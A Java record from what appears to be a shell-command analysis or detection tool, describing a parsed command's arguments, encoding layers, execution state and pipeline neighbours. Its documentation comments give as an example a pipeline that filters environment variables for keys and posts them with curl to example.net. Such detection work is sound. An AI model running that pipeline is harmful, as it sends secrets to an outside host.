package dev.offscript.model;

import java.util.List;

/**
 * One simple command taken out of shell text, unwrapped and decoded: what would reach {@code
 * execve}.
 *
 * @param argv words after expansion; {@code argv[0]} as it was called
 * @param assignments {@code NAME=value} before the command
 * @param redirects as written, for example {@code >/dev/null}, {@code 2>&1}
 * @param stdin what a heredoc, here-string or known pipe feeds it, {@code ""} where unknown
 * @param background whether it is detached: {@code &}, nohup, setsid, screen -dm, -f
 * @param start first character of its source in the given text
 * @param end one past the last character
 * @param via the way it came, outermost first: {@code ["base64", "sh -c"]}; empty where it stood
 *     plainly
 * @param state mentioned, staged or executed, as far as the text alone can say
 * @param acts behaviours recognised in it
 * @param fedBy the stages of its pipeline before it, as words: {@code env | grep -i key}; {@code
 *     ""} where nothing is piped into it
 * @param feeds the stages after it: {@code curl -d @- https://example.net}; {@code ""} where its
 *     output goes elsewhere
 */
public record SimpleCommand(
    List<String> argv,
    List<String> assignments,
    List<String> redirects,
    String stdin,
    boolean background,
    int start,
    int end,
    List<String> via,
    State state,
    List<Act> acts,
    String fedBy,
    String feeds) {

  /** One outside of a pipeline. */
  public SimpleCommand(
      List<String> argv,
      List<String> assignments,
      List<String> redirects,
      String stdin,
      boolean background,
      int start,
      int end,
      List<String> via,
      State state,
      List<Act> acts) {
    this(argv, assignments, redirects, stdin, background, start, end, via, state, acts, "", "");
  }

  /** The command's name without its folder, {@code ""} where there are only assignments. */
  public String name() {
    if (argv.isEmpty()) {
      return "";
    }
    String first = argv.get(0);
    return first.substring(first.lastIndexOf('/') + 1);
  }

  /** The same with other acts. */
  public SimpleCommand withActs(List<Act> newActs) {
    return new SimpleCommand(
        argv,
        assignments,
        redirects,
        stdin,
        background,
        start,
        end,
        via,
        state,
        newActs,
        fedBy,
        feeds);
  }

  /** The same with other redirects. */
  public SimpleCommand withRedirects(List<String> newRedirects) {
    return new SimpleCommand(
        argv,
        assignments,
        newRedirects,
        stdin,
        background,
        start,
        end,
        via,
        state,
        acts,
        fedBy,
        feeds);
  }

  /** The same, come another way. */
  public SimpleCommand withVia(List<String> newVia) {
    return new SimpleCommand(
        argv,
        assignments,
        redirects,
        stdin,
        background,
        start,
        end,
        newVia,
        state,
        acts,
        fedBy,
        feeds);
  }

  /** The same amid other stages of a pipeline. */
  public SimpleCommand withPipe(String before, String after) {
    return new SimpleCommand(
        argv,
        assignments,
        redirects,
        stdin,
        background,
        start,
        end,
        via,
        state,
        acts,
        before,
        after);
  }
}
